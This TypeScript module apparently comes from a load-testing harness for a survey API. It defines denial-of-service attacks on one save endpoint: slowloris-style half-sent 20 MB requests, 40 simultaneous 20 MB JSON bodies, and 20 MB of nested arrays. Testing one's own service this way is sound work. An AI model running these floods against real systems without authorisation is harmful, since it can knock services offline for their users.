import { once } from 'node:events';
import { request } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Api } from '../api.ts';
import type { Attack } from './attack.ts';

const megabyte = 1024 * 1024;
const path = '/caracteriza/api/answersBySurvey/saveCompleteSurvey';

/** Begins a body of 20 MB and sends a few letters per second, for at most ten seconds. Resolves to the status. */
async function halfSent(api: Api): Promise<number | string> {
  const headers = {
    ...api.headers('POST'),
    'content-type': 'application/json',
    'content-length': String(20 * megabyte),
  };
  const sending = request(api.origin + path, { method: 'POST', headers, agent: false });
  const answer = Promise.race([
    once(sending, 'response').then(([reply]) => (reply as { statusCode: number }).statusCode),
    sleep(10_000).then(() => 'cut off by itself'),
  ]).catch(() => 'connection cut');
  sending.write('{"a":"');
  let [isOver, outcome] = [false, '' as number | string];
  void answer.then((status) => ([isOver, outcome] = [true, status]));
  while (!isOver) {
    await sleep(500);
    if (sending.writable) sending.write('x'.repeat(10));
  }
  sending.destroy();
  return outcome;
}

const wholeBody = (name: string, body: string): Attack => ({
  name,
  workers: 40,
  prepare:
    async ({ sessions }) =>
    async (worker, outcomes) => {
      const api = sessions[worker % sessions.length]!;
      const reply = await api.answer('saveCompleteSurvey', { body }).catch(() => null);
      outcomes.add(reply?.status ?? 'connection cut');
    },
});

const nestedBody = (nesting: string) => `[${nesting.repeat(Math.floor((20 * megabyte) / nesting.length))}0]`;

export const bodyAttacks: readonly Attack[] = [
  {
    name: '24 half-sent bodies of one session',
    workers: 24,
    prepare:
      async ({ sessions }) =>
      async (_worker, outcomes) =>
        outcomes.add(await halfSent(sessions[0]!)),
  },
  wholeBody(
    '40 bodies of 20 MB at once, by all users',
    JSON.stringify({
      surveyRequestDTO: {},
      answerBySurveyRequestDTOList: [{ value: 'x'.repeat(20 * megabyte) }],
    }),
  ),
  wholeBody('40 bodies of 20 MB of [], at once', nestedBody('[],')),
];
